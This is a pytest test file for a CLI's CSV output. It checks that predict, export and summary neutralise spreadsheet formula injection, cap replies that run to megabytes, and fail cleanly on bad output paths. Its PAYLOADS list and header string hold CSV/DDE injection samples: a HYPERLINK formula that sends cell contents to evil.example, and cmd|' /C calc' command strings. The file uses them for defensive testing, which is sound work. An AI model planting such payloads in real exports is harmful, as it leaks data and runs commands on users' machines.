"""Issue 62 item 8: what `predict`, `export` and `summary` write can be opened anywhere.

A hostile OpenAI-compatible server on 127.0.0.1 answers the run's program; the CLI runs as a
subprocess on real files. No piece of a written CSV reads as a formula, whatever separator a
spreadsheet splits it at (`,` `;` tab `|`, a line break to an importer that ignores quotes),
headers included; a reply of megabytes is cut where it enters (a note in the row's error
column), is not kept in memory and the labelled file reads back with the project's loader;
every `-o` problem is one line, exit code 2, and leaves nothing behind.
"""

from __future__ import annotations

import csv
import gc
import io
import json
import os
import re
import shutil
import subprocess
import sys
import threading
import tracemalloc
import unicodedata
from collections.abc import Callable, Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest
from runs_helpers import ROOT, subprocess_env

from engine.lm.calls.reply_faults import LONG_REPLY_CHARS
from engine.runs import RunStore, build_program, create_run, load_spec
from engine.runs.export._files import SafeWriter
from engine.runs.label._predict import Labelled, predict_table, read_input_csv

MB = 1024 * 1024
HEADER_ATTACK = '=HYPERLINK("http://evil.example/?h="&A1,"open")'
PAYLOADS = [
    'ok;=HYPERLINK("http://evil.example/?x="&A2,"click")',
    "ok\t=1+1",
    "ok|@SUM(1+1)*cmd|' /C calc'!A0",
    "ok\r\n-2+3+cmd|' /C calc'!A0",
    "ok\n+1",
    "ok, =1+1",
    'ok;"=1+1"',
    "ok;\u200b@SUM(1)",
    "ok;＝1+1",
    "ok;\u3000＋1",
    "ok;﹦1",
    "ok;－1",
    "ok;;;\n\t=1",
    "=1;=2;=3",
]  # fmt: skip
SPEC = """\
name: summaries
pipeline:
  - name: summarise
    fields:
      - {name: ticket, role: input}
      - {name: summary, role: output}
data: {csv: data.csv}
models:
  task: {model: openai/gpt-4o-mini, api_base: "API_BASE"}
"""


def reads_as_formula(cell: str) -> bool:
    """Whether a spreadsheet may run `cell`: = + - @ (or a compatibility form) first, after
    whatever it may skip (spaces, line breaks, invisible characters, double quotes)."""
    for char in cell:
        if char.isspace() or char == '"' or unicodedata.category(char) in ("Cc", "Cf"):
            continue
        return unicodedata.normalize("NFKC", char)[:1] in ("=", "+", "-", "@")
    return False


def formula_pieces(text: str) -> list[str]:
    """Every field of the CSV text that reads as a formula, split at each separator a locale
    or an import may use (quotes honoured), or at any separator and line break (quotes not)."""
    found = []
    for delimiter in ",;\t|":
        for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter):
            found += [cell for cell in row if reads_as_formula(cell)]
    found += [p for p in re.split(r"[,;\t|\r\n]", text) if reads_as_formula(p)]
    return found


# -- every cell, headers included, in any locale (no LM) ---------------------------------------
@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_piece_of_a_written_csv_reads_as_a_formula(payload: str) -> None:
    table = Labelled([HEADER_ATTACK, payload, "error"], [{HEADER_ATTACK: payload, payload: "x"}])
    text = table.to_csv()
    out = io.StringIO()
    SafeWriter(out).writerow([payload, HEADER_ATTACK, 3])
    assert formula_pieces(text) == [] and formula_pieces(out.getvalue()) == []
    raw = io.StringIO()
    csv.writer(raw).writerows([[HEADER_ATTACK, payload]])
    assert formula_pieces(raw.getvalue()), "the check sees the attack when it is written as is"
    row = next(csv.DictReader(io.StringIO(text, newline="")))
    assert row["'" + HEADER_ATTACK].replace("'", "") == payload.replace("'", "")


# -- a hostile server behind the run's program ---------------------------------------------------
class HostileChat:
    """An OpenAI-compatible chat server on 127.0.0.1: `answer(row number)` is the `summary`
    it writes for the ticket 'row N'."""

    def __init__(self) -> None:
        self.answer: Callable[[int], str] = lambda n: "fine"
        server = self

        class Handler(BaseHTTPRequestHandler):
            def log_message(self, *args: object) -> None:
                pass

            def do_POST(self) -> None:  # noqa: N802  (http.server's name)
                request = self.rfile.read(int(self.headers.get("Content-Length", 0)))
                asked = re.findall(r"row (\d+)", request.decode("utf-8", "replace"))
                value = server.answer(int(asked[-1]) if asked else 0)
                content = f"[[ ## summary ## ]]\n{value}\n\n[[ ## completed ## ]]"
                body = json.dumps({
                    "id": "c", "object": "chat.completion", "created": 0, "model": "m",
                    "choices": [{"index": 0, "finish_reason": "stop",
                                 "message": {"role": "assistant", "content": content}}],
                    "usage": {"prompt_tokens": 9, "completion_tokens": 9, "total_tokens": 18},
                }).encode()  # fmt: skip
                self.send_response(200)
                self.send_header("Content-Type", "application/json")
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

        self.httpd = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        threading.Thread(target=self.httpd.serve_forever, daemon=True).start()

    @property
    def api_base(self) -> str:
        return f"http://127.0.0.1:{self.httpd.server_address[1]}/v1"


@pytest.fixture
def hostile() -> Iterator[HostileChat]:
    server = HostileChat()
    yield server
    server.httpd.shutdown()
    server.httpd.server_close()


@pytest.fixture
def home(tmp_path: Path, hostile: HostileChat, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A TUNESMITH_HOME whose store holds a finished run of SPEC (answered by `hostile`)."""
    monkeypatch.setenv("OPENAI_API_KEY", "test-key-for-the-local-server")
    monkeypatch.setenv("TUNESMITH_HOME", str(tmp_path))
    (tmp_path / "data.csv").write_text("ticket,summary\nrow 0,a\nrow 1,b\n", encoding="utf-8")
    (tmp_path / "spec.yaml").write_text(SPEC.replace("API_BASE", hostile.api_base), "utf-8")
    spec = load_spec(tmp_path / "spec.yaml")
    run_id = create_run(spec, store(tmp_path))
    with RunStore(store(tmp_path)) as runs:
        runs.update_run(run_id, status="finished", program=build_program(spec).dump_state())
    (tmp_path / "run_id").write_text(run_id, encoding="utf-8")
    return tmp_path


def store(home: Path) -> Path:
    return home / "tunesmith_data" / "runs.db"


def cli(home: Path, *args: str, wrap: list[str] | None = None) -> subprocess.CompletedProcess:
    command = [sys.executable, "-m", "engine", *args]
    return subprocess.run(  # noqa: S603  (fixed argv)
        [*(wrap or []), *command], capture_output=True, text=True, cwd=home, timeout=600,
        env=subprocess_env(PYTHONPATH=str(ROOT)),
    )  # fmt: skip


def rows_csv(home: Path, count: int, extra: str = "") -> Path:
    """new.csv: a ticket column ('row 0', 'row 1', ...) and an `extra` column if named."""
    path = home / "new.csv"
    with path.open("w", newline="", encoding="utf-8") as stream:
        csv.writer(stream).writerows(
            [["ticket", extra][: 1 + bool(extra)]]
            + [[f"row {i}", "x"][: 1 + bool(extra)] for i in range(count)]
        )
    return path


def test_predict_output_holds_no_formula_in_any_locale(home: Path, hostile: HostileChat) -> None:
    hostile.answer = lambda n: PAYLOADS[n]
    source = rows_csv(home, len(PAYLOADS), extra=HEADER_ATTACK)
    run_id = (home / "run_id").read_text()
    done = cli(home, "predict", run_id, str(source), "-o", "out.csv")
    assert done.returncode == 0, done.stderr
    text = (home / "out.csv").read_text(encoding="utf-8")
    assert formula_pieces(text) == []
    header, rows = read_input_csv(home / "out.csv")
    assert header == ["ticket", "'" + HEADER_ATTACK, "summary", "error"]
    for payload, row in zip(PAYLOADS, rows, strict=True):
        assert row["summary"].replace("'", "") == payload.strip().replace("'", "")


def test_a_reply_of_megabytes_is_cut_where_it_enters(home: Path, hostile: HostileChat) -> None:
    """20 MB of text, then 20 MB of ';=' (which neutralising lengthens by half): both cut to
    the one bound, said in the error column, and the file reads back with the loader."""
    hostile.answer = lambda n: ("x" if n == 0 else ";=") * (10 * MB)
    run_id = (home / "run_id").read_text()
    done = cli(home, "predict", run_id, str(rows_csv(home, 2)), "-o", "out.csv")
    assert done.returncode == 1 and "2 failed" in done.stderr, done.stderr
    assert "Traceback" not in done.stderr
    header, rows = read_input_csv(home / "out.csv")
    for row in rows:
        assert "reply cut" in row["error"] and f"{LONG_REPLY_CHARS:,} at most" in row["error"]
        assert 0 < len(row["summary"].replace("'", "")) <= LONG_REPLY_CHARS
    assert formula_pieces((home / "out.csv").read_text(encoding="utf-8")) == []


def test_megabyte_replies_are_not_kept_in_memory(home: Path, hostile: HostileChat) -> None:
    """The LM's cache, its history and the labelled rows keep the cut reply, not the 10 MB one
    (before: three copies of every row's reply stayed until the end, 240 MB here). What stays
    is litellm's own hold on its last response (two copies), however many rows there are."""
    run_id, rows = (home / "run_id").read_text(), 8
    predict_table(run_id, ["ticket"], [{"ticket": "warm up"}], db_path=store(home))  # imports
    hostile.answer = lambda n: "y" * (10 * MB)
    tracemalloc.start()
    try:
        before = tracemalloc.get_traced_memory()[0]
        table = predict_table(run_id, ["ticket"], [{"ticket": f"row {i}"} for i in range(rows)],
                              db_path=store(home))  # fmt: skip
        gc.collect()
        kept = tracemalloc.get_traced_memory()[0] - before
    finally:
        tracemalloc.stop()
    assert table.failed == rows and all("reply cut" in r["error"] for r in table.rows)
    assert kept < 3 * 10 * MB, f"{kept / MB:.0f} MB kept after {rows} replies of 10 MB"


# -- where -o writes ------------------------------------------------------------------------------
LISTING = "--- files on the disk after the command ---"


def _private_disk(folder: Path, full: bool) -> list[str] | None:
    """`unshare` argv running a command with a small tmpfs on `folder` (filled up, or mounted
    read-only) in a mount namespace of its own, then listing the files on it; None where this
    machine does not allow that."""
    unshare = shutil.which("unshare")
    if unshare is None or os.geteuid() != 0:
        return None
    probe = subprocess.run([unshare, "-m", "true"], capture_output=True, check=False)  # noqa: S603
    if probe.returncode != 0:
        return None
    mount = f'mount -t tmpfs -o size=16k{",ro" * (not full)} tmpfs "{folder}"'
    fill = f'head -c 1M /dev/zero > "{folder}/filler" 2>/dev/null;' if full else ""
    listing = f'echo "{LISTING}"; ls -A "{folder}"'
    script = f'{mount} && {{ {fill} "$@"; rc=$?; {listing}; exit $rc; }}'
    return [unshare, "-m", "sh", "-c", script, "sh"]


def _problem(home: Path, problem: str, command: str) -> tuple[str, list[str] | None]:
    """The -o target for `problem` (and a wrapper for the disk ones)."""
    if problem == "missing folder":
        return str(home / "no" / "such" / "out.txt"), None
    if problem == "a folder":
        return str(home), None
    if problem == "/dev/full":
        return "/dev/full", None
    if problem == "the input file":
        return str(home / "new.csv") if command == "predict" else str(store(home)), None
    if problem == "a link to the input":
        (home / "link.csv").symlink_to(home / "new.csv" if command == "predict" else store(home))
        return str(home / "link.csv"), None
    if problem == "unwritable folder":  # immutable: even root may not create a file in it
        (home / "locked").mkdir()
        if subprocess.run(["chattr", "+i", str(home / "locked")], check=False).returncode:  # noqa: S603, S607
            pytest.skip("chattr +i (an immutable folder) is not allowed here")
        return str(home / "locked" / "out.txt"), None
    disk = home / "disk"
    disk.mkdir()
    wrap = _private_disk(disk, full=problem == "full disk")
    if wrap is None:
        pytest.skip("a private tmpfs needs root and unshare (mount namespaces)")
    return str(disk / "out.txt"), wrap


PROBLEMS = ["missing folder", "a folder", "/dev/full", "the input file", "a link to the input",
            "unwritable folder", "full disk", "read-only disk"]  # fmt: skip


@pytest.mark.parametrize("command", ["predict", "export", "summary"])
@pytest.mark.parametrize("problem", PROBLEMS)
def test_every_output_problem_is_one_line_and_leaves_nothing(
    home: Path, problem: str, command: str
) -> None:
    source = rows_csv(home, 2)
    target, wrap = _problem(home, problem, command)
    run_id = (home / "run_id").read_text()
    args = {"predict": ["predict", run_id, str(source)], "summary": ["summary", run_id],
            "export": ["export", run_id, "--format", "py"]}[command]  # fmt: skip
    kept = {p: p.read_bytes() for p in (source, store(home)) if p.is_file()}
    before = sorted(home.rglob("*"))
    done = cli(home, *args, "-o", target, wrap=wrap)
    if problem == "unwritable folder":
        subprocess.run(["chattr", "-i", str(home / "locked")], check=True)  # noqa: S603, S607
        assert list((home / "locked").iterdir()) == []
    assert done.returncode == 2, (done.returncode, done.stderr)
    lines = [line for line in done.stderr.splitlines() if line and "labelling: " not in line]
    assert len(lines) == 1 and lines[0].startswith(f"error: cannot write {target}: "), lines
    if wrap is not None:  # what the private disk held afterwards: the filler only
        listed = done.stdout.split(LISTING)[-1].split()
        assert listed == (["filler"] if problem == "full disk" else []), done.stdout
    assert "Traceback" not in done.stderr
    assert {p: p.read_bytes() for p in kept} == kept  # the input and the store unchanged
    new = [p for p in sorted(home.rglob("*")) if p not in before and "lm_cache" not in p.name]
    assert new == [] or all(p.parent.name == "logs" for p in new), new
